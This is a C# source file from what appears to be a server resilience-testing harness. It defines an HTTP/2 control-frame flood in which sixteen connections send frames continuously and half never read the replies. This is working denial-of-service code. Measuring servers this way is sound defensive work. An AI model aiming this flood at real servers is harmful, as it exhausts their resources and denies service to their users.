using Lariat.Attacks.Measuring;

namespace Lariat.Attacks;

/// <summary>HTTP/2 frames that want an answer, which half of the attackers do not read.</summary>
internal sealed class ControlFlood(string name, string frameName, byte[] frame) : IAttack
{
    private const int Count = 16;

    private readonly byte[] _frames = [.. Enumerable.Repeat(frame, 1000).SelectMany(static bytes => bytes)];

    public string Name => name;

    public string Summary => $"16 connections of HTTP/2 send {frameName} frames as fast as they can; half of them never read the answers.";

    public GoodClientKind Client => GoodClientKind.Http2;

    public Task RunAsync(ServerProcess server, AttackLog log, CancellationToken end)
        => Task.WhenAll(
            Attackers.RepeatAsync(Count / 2, log, () => SendAsync(server, log, isReading: true, end), end),
            Attackers.RepeatAsync(Count / 2, log, () => SendAsync(server, log, isReading: false, end), end));

    private async Task SendAsync(ServerProcess server, AttackLog log, bool isReading, CancellationToken end)
    {
        using Peer peer = await Http2Frames.OpenAsync(server.Http2Port, end);
        Task reading = isReading ? peer.DrainAsync(end) : Task.CompletedTask;
        try
        {
            while (true)
            {
                await peer.SendAsync(_frames, end);
                log.Count("thousand frames");
            }
        }
        finally
        {
            peer.Dispose();
            await reading.ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
        }
    }
}
